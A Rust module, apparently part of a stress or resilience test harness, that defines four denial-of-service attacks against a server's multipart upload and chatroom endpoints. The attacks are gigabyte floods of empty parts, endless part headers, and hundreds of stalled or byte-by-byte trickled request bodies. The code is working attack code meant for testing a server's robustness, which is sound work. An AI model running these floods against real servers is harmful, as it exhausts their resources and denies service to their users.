//! Bodies without end, and bodies that do not come.

use std::future::pending;
use std::io;
use std::rc::Rc;
use std::time::Duration;

use futures_util::FutureExt as _;
use futures_util::future::join_all;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::sleep;

use super::attackers::{Attack, Attackers};
use crate::Failure;

/// One GiB of parts in which nothing is.
pub(super) const EMPTY_PARTS: Attack = Attack {
    name: "empty parts",
    network: 1,
    begin: |attackers| {
        let part = "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n\r\n";
        flood(attackers, "", part).boxed_local()
    },
};

/// A part whose headers do not end.
pub(super) const ENDLESS_HEADERS: Attack = Attack {
    name: "endless headers",
    network: 2,
    begin: |attackers| {
        let first = "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n";
        flood(attackers, first, "X-Again: again\r\n").boxed_local()
    },
};

/// Five hundred bodies that stop after their first bytes.
pub(super) const STALLED: Attack = Attack {
    name: "stalled bodies",
    network: 3,

    begin: |attackers| hold(attackers, (500, None)).boxed_local(),
};

/// Two hundred bodies that come byte by byte.
pub(super) const TRICKLED: Attack = Attack {
    name: "trickled bodies",
    network: 4,
    begin: |attackers| hold(attackers, (200, Some(Duration::from_millis(100)))).boxed_local(),
};

/// How long a body is said to be.
const GIB: usize = 1 << 30;
/// How many upload at once.
const UPLOADS: usize = 4;
/// How much is written at once, about.
const PIECE: usize = 64 * 1024;

async fn flood(attackers: Rc<Attackers>, first: &'static str, again: &str) -> Result<(), Failure> {
    let piece = again.repeat(PIECE / again.len());
    let uploads = (0..UPLOADS).map(async |n| {
        let head =
            head(&attackers, n, ("/upload/upload-message-file", "multipart/form-data; boundary=b", GIB))?;
        loop {
            let mut stream = attackers.connect(n, None).await?;
            let sent = write(&mut stream, &[&head, first], &piece).await;
            attackers.note(sent.is_ok());
            sleep(Duration::from_millis(5)).await;
        }
    });
    all_go_on(join_all(uploads).await)
}

async fn write(stream: &mut TcpStream, first: &[&str], again: &str) -> io::Result<()> {
    stream.write_all(first.concat().as_bytes()).await?;
    for _ in 0..GIB / again.len() {
        stream.write_all(again.as_bytes()).await?;
    }
    Ok(())
}

/// Holds bodies open: nothing more of them comes, or a byte at intervals.
async fn hold(attackers: Rc<Attackers>, (count, pace): (usize, Option<Duration>)) -> Result<(), Failure> {
    let bodies = (0..count).map(async |n| {
        let head = head(&attackers, n, ("/chatrooms", "application/json", 200_000))?;
        loop {
            let Ok(mut stream) = attackers.connect(n, None).await else {
                attackers.note(false);
                sleep(Duration::from_millis(100)).await;
                continue;
            };
            let closed = stall(&mut stream, &head, pace).await;
            attackers.note(closed.is_ok());
        }
    });
    all_go_on(join_all(bodies).await)
}

/// Returns when the server closes the connection or answers, which no whole body has made it do.
async fn stall(stream: &mut TcpStream, head: &str, pace: Option<Duration>) -> io::Result<()> {
    stream.write_all(head.as_bytes()).await?;
    stream.write_all(b"{\"members_id\":[1").await?;
    let (mut incoming, mut outgoing) = stream.split();
    let mut byte = [0];
    let more = async {
        let Some(pace) = pace else { return pending().await };
        loop {
            sleep(pace).await;
            outgoing.write_all(b"1").await?;
        }
    };
    tokio::select! {
        _ = incoming.read(&mut byte) => Err(io::ErrorKind::ConnectionAborted.into()),
        failed = more => failed,
    }
}

fn head(
    attackers: &Attackers,
    number: usize,
    (path, content_type, length): (&str, &str, usize),
) -> Result<String, Failure> {
    let (host, token) = (attackers.address, attackers.token(1_000 + number % 500)?);
    Ok(format!(
        "POST {path} HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {token}\r\nContent-Type: {content_type}\r\n\
         Content-Length: {length}\r\n\r\n"
    ))
}

/// Returns the first failure: attackers end by one only.
pub(super) fn all_go_on(ended: Vec<Result<(), Failure>>) -> Result<(), Failure> {
    ended.into_iter().collect()
}
